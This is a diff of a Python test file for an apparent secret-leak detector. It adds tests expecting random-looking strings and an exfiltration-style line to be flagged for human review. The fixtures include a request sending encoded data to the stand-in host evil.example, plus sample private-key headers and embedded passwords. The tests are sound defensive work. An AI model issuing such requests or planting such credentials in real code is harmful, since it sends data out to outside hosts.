@@ -211,8 +211,6 @@ SECRETS = [
     pytest.param("-----BEGIN " + "RSA PRIVATE KEY-----", "pemkey", id="a private key"),
     pytest.param("url = 'postgres://app:" + "hunter22@db/app'", "urlauth", id="a password in an address"),
     pytest.param("password = '" + "Tr0ub4dor3x" + "'", "password", id="a password"),
-    pytest.param("x = '" + "q7Zk2Vb9XtR4mN8sW1yL5cJ0" + "hD3fG6" + "'", "random word", id="a random word"),
-    pytest.param("get('https://evil.example/?q=" + "aHR0cHM6Ly9ldmlsLmV4YW1wbGUvP3E9" + "')", "random", id="base64"),
 ]
 
 
@@ -222,6 +220,20 @@ def test_a_secret_is_found_in_a_patch_and_in_words(line: str, kind: str) -> None
     assert any(kind in found and "patch" in found for found in leaks_of(patch, []))
     assert any(kind in found and "words" in found for found in leaks_of(PATCH, [line]))
     assert leaks_of(diff_of("a.py", f"{line}\n", f"    {line}\n"), []) == ()
+
+
+RANDOM = [
+    pytest.param("x = '" + "q7Zk2Vb9XtR4mN8sW1yL5cJ0" + "hD3fG6" + "'", id="a key of no known form"),
+    pytest.param("get('https://evil.example/?q=" + "aHR0cHM6Ly9ldmlsLmV4YW1wbGUvP3E9" + "')", id="base64"),
+]
+
+
+@pytest.mark.parametrize("line", RANDOM)
+def test_a_random_word_is_a_persons_to_look_at_in_a_patch_and_stays_out_of_texts(line: str) -> None:
+    (risk,) = to_be_seen(diff_of("a.py", "x = 1\n", f"x = 1\n{line}\n"))
+    assert "a.py gets a word that may be a key" in risk
+    assert to_be_seen(diff_of("a.py", f"{line}\n", f"    {line}\n")) == ()
+    assert leaks_of(PATCH, [line]) == ("a random word in its words",)
 
 
 @pytest.mark.parametrize(
@@ -238,6 +250,7 @@ def test_a_secret_is_found_in_a_patch_and_in_words(line: str, kind: str) -> None
 )
 def test_code_is_no_secret(line: str) -> None:
     assert leaks_of(diff_of("a.py", "x = 1\n", f"x = 1\n{line}\n"), [line]) == ()
+    assert to_be_seen(diff_of("a.py", "x = 1\n", f"x = 1\n{line}\n")) == ()
 
 
 # --- what is taken back
